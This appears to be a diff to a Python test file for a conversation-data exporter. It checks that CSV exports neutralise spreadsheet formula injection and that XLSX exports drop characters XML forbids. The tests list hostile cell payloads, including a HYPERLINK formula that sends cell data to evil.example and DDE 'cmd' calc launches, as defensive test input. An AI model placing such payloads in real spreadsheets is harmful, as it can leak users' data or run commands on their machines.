@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import io
 import json
 
@@ -63,3 +64,29 @@ def test_conversations_show_each_turn_on_its_own_line_in_review_copies() -> None
     )
     text = to_csv([conversation]).decode("utf-8-sig")
     assert text == 'system,user,assistant\r\ns,"u1\nu2","a1\na2"\r\n'
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_copy_keeps_formula_like_cells_as_text_and_reads_back_unchanged() -> None:
+    examples = [Example.from_turns("s", text, "答え " + text) for text in HOSTILE]
+    rows = list(csv.reader(io.StringIO(to_csv(examples).decode("utf-8-sig"), newline="")))
+    assert [row[1] for row in rows[1:]] == ["'" + text for text in HOSTILE]
+    assert [row[2] for row in rows[1:]] == ["答え " + text for text in HOSTILE]  # already text
+    again = read_sheet(to_csv(examples), "review.csv", default_system=None, limits=LIMITS)
+    assert [e.content_of("user") for e in again.examples] == [text.strip() for text in HOSTILE]
+
+
+def test_xlsx_copy_drops_characters_xml_forbids_so_excel_can_open_it() -> None:
+    example = Example.from_turns("s\x01ys", "a\ufffeb\uffffc", "lone \ud800 surrogate \x0b")
+    data = to_xlsx([example])
+    sheet = openpyxl.load_workbook(io.BytesIO(data))["LearningData"]
+    assert [cell.value for cell in sheet[2]] == ["sys", "abc", "lone  surrogate "]
